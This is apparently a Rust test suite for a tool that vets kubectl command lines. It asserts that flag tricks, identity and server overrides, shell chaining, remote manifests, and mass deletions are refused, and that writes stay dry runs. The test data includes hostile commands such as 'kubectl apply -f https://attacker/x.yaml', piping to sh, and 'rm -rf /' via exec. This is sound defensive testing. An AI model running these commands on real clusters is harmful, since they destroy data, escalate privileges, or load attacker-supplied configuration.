//! How a line is read: flags are flags, what reaches outside is refused, a read stays a read, a preview has no side effects.

use super::{SHOP, Scene, yes};
use aiops::faces::args::Global;

#[tokio::test(flavor = "multi_thread")]
async fn the_value_of_a_flag_is_never_the_verb() {
    let scene = Scene::new().await;
    for request in ["kubectl -n get delete configmap settings", "kubectl --namespace get delete pods web", "kubectl -nget delete pod/web"] {
        let heard = scene.says(request).await;
        // Read as what it is, a deletion in namespace `get`, or not read at all; never as a `get`.
        assert_ne!(heard.code, 0, "{request}: {}", heard.text);
    }
    let op = aiops::ops::Op::from_line("kubectl -n get delete pods x").unwrap();
    assert_eq!(op.line(), "kubectl delete pod/x -n get");
    assert!(op.verb().impact() > aiops::ops::Impact::Reads);
    assert!(scene.wire.writes().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn who_is_asking_and_whom_cannot_be_changed_inside_a_request() {
    let scene = Scene::new().await;
    for flag in [
        "--context=prod",
        "--context prod",
        "--kubeconfig=/tmp/evil.yaml",
        "--kubeconfig /tmp/evil.yaml",
        "--server=https://attacker",
        "-s https://attacker",
        "--as=admin",
        "--as-group=system:masters",
        "--token=abc",
        "--user=admin",
        "--cluster=prod",
        "--insecure-skip-tls-verify",
        "--certificate-authority=/tmp/x",
        "--client-key=/tmp/x",
        "--cache-dir=/tmp/x",
        "--profile-output=/tmp/x",
        "--tls-server-name=x",
    ] {
        for line in [
            format!("kubectl get pods {flag}"),
            format!("kubectl {flag} delete configmap settings"),
            format!("kubectl delete configmap settings {flag}"),
        ] {
            let heard = scene.says(&line).await;
            assert!([2, 4, 5].contains(&heard.code), "{line}: {} {}", heard.code, heard.text);
        }
    }
    assert!(scene.wire.seen().is_empty(), "nothing of it reached the server: {:#?}", scene.wire.seen());
}

#[tokio::test(flavor = "multi_thread")]
async fn there_is_no_shell_and_no_file_to_write() {
    let scene = Scene::new().await;
    let target = scene.person.file("untouched", "as it was");
    let target = target.display();
    for line in [
        "kubectl get pods; kubectl delete configmap settings".to_string(),
        "kubectl get pods && kubectl delete configmap settings".into(),
        "kubectl get pods | sh".into(),
        "kubectl get pods $(touch x)".into(),
        "kubectl get pods `touch x`".into(),
        format!("kubectl get pods > {target}"),
        format!("kubectl get cm settings -o jsonpath={{.data}} > {target}"),
        "kubectl get pods\nkubectl delete configmap settings".into(),
        "kubectl delete ns shop --dry-run=none".into(),
        "kubectl config use-context production".into(),
        "kubectl auth reconcile -f rbac.yaml".into(),
        "kubectl proxy --address=0.0.0.0".into(),
        format!("kubectl cluster-info dump --output-directory={target}"),
        "kubectl exec web -- sh -c 'rm -rf /' --dry-run".into(),
        "/tmp/kubectl-evil get pods".into(),
        "sudo kubectl delete ns shop".into(),
        "kubectl delete pods --all-namespaces".into(),
        "kubectl delete configmaps -l a=b --all".into(),
        "kubectl delete pods -l a==b,,".into(),
        "kubectl apply -f https://attacker/x.yaml".into(),
        "kubectl apply -k https://attacker/x".into(),
    ] {
        let heard = scene.says(&line).await;
        assert_ne!(heard.code, 0, "{line}: {}", heard.text);
    }
    assert!(scene.wire.writes().is_empty());
    assert_eq!(std::fs::read_to_string(scene.person.file("other", "").with_file_name("untouched")).unwrap(), "as it was");
    assert!(scene.person.object("configmap", "settings", SHOP).await.is_some());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_read_never_changes_anything_and_is_never_asked_about() {
    let scene = Scene::new().await;
    for request in [
        "kubectl get pods",
        "kubectl get deploy web -o yaml",
        "kubectl get all -A",
        "kubectl describe deployment web",
        "kubectl logs deployment/web",
        "kubectl events",
        "kubectl rollout status deployment/web",
        "kubectl rollout history deployment/web",
        "kubectl top pods",
        "kubectl get secrets -A -o yaml",
    ] {
        scene.wire.forget();
        // No flag answers anything here: a read that asked would end with 3.
        scene.says_with(request, Global::default()).await;
        let mutating: Vec<_> = scene.wire.seen().into_iter().filter(|s| s.mutates()).collect();
        assert!(mutating.is_empty(), "{request}: {mutating:#?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn before_the_yes_every_write_is_a_rehearsal() {
    let scene = Scene::new().await;
    for request in [
        "kubectl scale deployment/web --replicas=0",
        "kubectl set image deployment/web web=nginx:1.28",
        "kubectl rollout restart deployment/web",
        "kubectl label deployment/web a=b",
        "kubectl delete deployment web",
        "kubectl delete namespace shop",
        "kubectl create namespace x",
        "kubectl cordon demo-node-1",
    ] {
        scene.wire.forget();
        let flags = [Global { dry_run: true, ..yes() }, Global { dry_run: true, ..super::confirm("web") }];
        for flags in flags {
            let heard = scene.says_with(request, flags).await;
            assert_eq!(heard.code, 0, "{request}: {}", heard.text);
            assert!(heard.text.contains("nothing was changed"), "{}", heard.text);
        }
        let mutating: Vec<_> = scene.wire.seen().into_iter().filter(|s| s.mutates()).collect();
        assert!(!mutating.is_empty() && mutating.iter().all(|s| s.rehearses()), "{request}: {mutating:#?}");
        for deletion in mutating.iter().filter(|s| s.method == "DELETE") {
            assert_eq!(deletion.body["dryRun"], serde_json::json!(["All"]), "the server reads a deletion's body before its query");
        }
    }
    assert_eq!(scene.replicas().await, Some(2));
}

#[tokio::test(flavor = "multi_thread")]
async fn read_only_refuses_every_change_before_anything_is_sent() {
    let scene = Scene::new().await;
    for request in ["kubectl scale deployment/web --replicas=0", "kubectl delete deployment web", "kubectl create namespace x"] {
        let heard = scene.says_with(request, Global { read_only: true, yes: true, confirm: Some("web".into()), ..Global::default() }).await;
        assert_eq!(heard.code, 4, "{request}: {}", heard.text);
    }
    assert!(scene.wire.seen().iter().all(|s| !s.mutates()));
}
